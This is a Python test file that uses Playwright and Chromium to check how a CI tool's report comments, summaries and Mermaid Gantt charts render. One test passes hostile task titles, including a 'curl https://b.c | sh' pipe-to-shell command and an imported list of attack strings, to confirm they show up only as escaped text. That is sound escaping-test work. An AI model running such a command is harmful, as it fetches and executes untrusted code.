"""The pages in a real browser: what is wider than the window scrolls by itself, the grid is seen, failures fold."""

import fcntl
import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from cigen.duration import duration
from cigen.report import comment, markdown
from cigen.report.escape import line
from cigen.report.gantt import gantt
from cigen.report.happened import link_title
from cigen.results.happened import Chain, Happened, Link
from cigen.results.model import Build, Report
from tests import bigreports
from tests.hostile import ATTACKS
from tests.markdown.browser import browser, program, show
from tests.reports import report as reported

PAGES = {"comment": comment.render, "summary": markdown.render}
NEEDED = ("chromium", "libatomic1")  # the second is for the node that drives it
PACKAGES = Path(os.environ.get("XDG_CACHE_HOME", Path.home() / ".cache"), "cigen-pictures/node_modules")
"""Where `scripts/pictures` puts Mermaid."""
REPORTS = {"26 cells": bigreports.small, "1,000 cells": bigreports.large, "all green": bigreports.green}


@pytest.fixture(scope="module")
def opened() -> Iterator[Browser]:
    """The browser that is installed; a bare Debian machine gets its own."""
    found = _installed()
    if found is None:
        pytest.skip("no chromium here, and only root on Debian can get one")
    with browser(found) as started:
        yield started


def _installed() -> str | None:
    """Its path; one worker gets it while the others wait, as there is one lock for all of apt."""
    with Path(tempfile.gettempdir(), "cigen-tests-apt.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if program() is None and os.geteuid() == 0 and shutil.which("apt-get"):
            environ = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
            for command in (["update"], ["install", "--yes", "--no-install-recommends", *NEEDED]):
                subprocess.run(
                    ["apt-get", "--quiet", *command], check=False, timeout=300, env=environ, capture_output=True
                )
        return program()


@pytest.mark.parametrize("kind", PAGES)
@pytest.mark.parametrize("cells", REPORTS)
def test_pages__only_tables_and_logs_are_wider_than_a_phone(opened: Browser, kind: str, cells: str) -> None:
    report: Report = REPORTS[cells]()
    page = show(opened, PAGES[kind](report).text, 400)
    try:
        assert page.evaluate("document.documentElement.scrollWidth") <= 400
        wide = page.evaluate(WIDE)
        assert not wide, wide
    finally:
        page.close()


WIDE = """() => [...document.querySelectorAll('article *')]
  .filter(one => !one.closest('table, pre') && one.getBoundingClientRect().right > 400)
  .map(one => one.outerHTML.slice(0, 200))"""


def test_comment__shows_its_grid_and_the_first_failure_and_folds_the_others(opened: Browser) -> None:
    page = show(opened, comment.render(bigreports.large()).text, 900)
    try:
        assert page.locator("table").first.is_visible()
        assert page.locator("h3").count() == 1
        folds = page.locator("details")
        assert folds.count() > 3
        assert folds.nth(0).locator("pre").first.is_visible()
        assert not folds.nth(1).locator("pre").first.is_visible()
        folds.nth(1).locator("summary").click()
        assert folds.nth(1).locator("pre").first.is_visible()
    finally:
        page.close()


def test_comment__of_a_green_run_is_two_lines(opened: Browser) -> None:
    page = show(opened, comment.render(bigreports.green()).text, 1000)
    try:
        blocks = page.locator("article > *")
        assert [blocks.nth(n).evaluate("one => one.tagName") for n in range(blocks.count())] == ["H3", "P"]
    finally:
        page.close()


def test_comment__the_grid_of_a_thousand_cells_is_no_wider_than_it(opened: Browser) -> None:
    page = show(opened, comment.render(bigreports.large()).text, 820)
    try:
        table = page.locator("table").first
        assert table.evaluate("one => one.scrollWidth - one.clientWidth") == 0
        heights = table.locator("tbody tr").evaluate_all("all => all.map(one => one.clientHeight)")
        assert max(heights) < 1.5 * min(heights), "the name of a row takes two lines"
    finally:
        page.close()


def test_chart__says_what_was_run_and_nothing_in_it_is_more_than_text(opened: Browser) -> None:
    if not (PACKAGES / "mermaid").is_dir():
        pytest.skip("no Mermaid here, scripts/pictures gets one")
    links = tuple(Link(text, text, 2.0) for text in ("RUN a && curl https://b.c | sh; x # y", "é テスト", *ATTACKS))
    whole = reported(build=Build(1, 1, 0, happened=Happened(chain=Chain(links, 200, 200))))
    page = show(opened, gantt(whole, len(links)), 1000, package=PACKAGES)
    try:
        texts = page.locator("text[class*=taskText]").all_text_contents()
        drawn = page.locator(".mermaid svg *").evaluate_all("all => [...new Set(all.map(one => one.tagName))].sort()")
    finally:
        page.close()
    for shown, link in zip(texts, links, strict=True):
        text = " ".join(f"{duration(2.0)} {line(link_title(link, whole))}".split())
        assert shown.strip() == text or (shown.strip().endswith("...") and text.startswith(shown.strip()[:-3])), text
    assert drawn == ["g", "line", "path", "rect", "style", "text", "tspan"]


def test_page__that_is_too_wide_is_noticed(opened: Browser) -> None:
    page = show(
        opened, "## x\n\n<pre style='overflow:visible'>" + "x" * 300 + "</pre>\n\n<p style='width:600px'>y</p>", 400
    )
    try:
        assert page.evaluate("document.querySelector('article').scrollWidth") > 400
        assert page.evaluate(WIDE)
    finally:
        page.close()
